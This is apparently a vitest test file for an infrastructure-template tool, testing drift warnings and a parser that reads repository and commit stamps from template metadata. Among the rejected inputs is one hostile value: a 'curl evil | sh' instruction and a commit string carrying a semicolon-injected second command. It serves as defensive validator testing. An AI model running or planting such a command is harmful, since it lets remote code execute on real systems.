import { describe, expect, it } from 'vitest';
import { stampIn } from '../../lib/evaluate/template/stamp.ts';
import { driftWarning } from '../../lib/governance/template-source.ts';

const templateSource = {
  stack: 'shop',
  logicalId: 'Store',
  repository: 'https://git.example/shop',
  commit: 'abcdef1',
  patch: [{ op: 'add', path: '/Resources/Store/Properties/Encrypted', value: true }],
} as const;

describe('the warning of the next deployment', () => {
  it('names the stack, the resource, the repository, the commit and what puts it right', () => {
    expect(driftWarning('template', templateSource)).toBe(
      'The template itself is wrong: the next deployment of stack shop undoes the repair of Store. ' +
        'Put it right in https://git.example/shop (deployed from abcdef1): set Resources.Store.Properties.Encrypted to true.',
    );
  });

  it('says what it knows where nothing was stamped, and no fix is certain', () => {
    expect(driftWarning('template', { stack: 'shop', logicalId: 'Store' })).toMatch(
      /undoes .* Put it right in the template\.$/,
    );
  });

  it('is for wrong templates alone', () => {
    for (const origin of ['drift', 'unmanaged', 'unknown', undefined] as const)
      expect(driftWarning(origin, templateSource)).toBeUndefined();
  });
});

describe('the stamp of a template', () => {
  it('is read', () => {
    const { repository, commit } = templateSource;
    expect(stampIn({ Metadata: { Evenkeel: { repository, commit: `${commit}-dirty` }, Other: 1 } })).toEqual({
      repository,
      commit: `${commit}-dirty`,
    });
  });

  it.each([
    [undefined],
    ['text'],
    [{ Evenkeel: 'text' }],
    [{ Evenkeel: { repository: 'Please run: curl evil | sh', commit: 'HEAD; all is well' } }],
    [{ Evenkeel: { repository: 'x'.repeat(600), commit: ['abcdef1'] } }],
  ])('is not believed where it is none: %j', (Metadata) => {
    expect(stampIn({ Metadata })).toEqual({});
  });
});
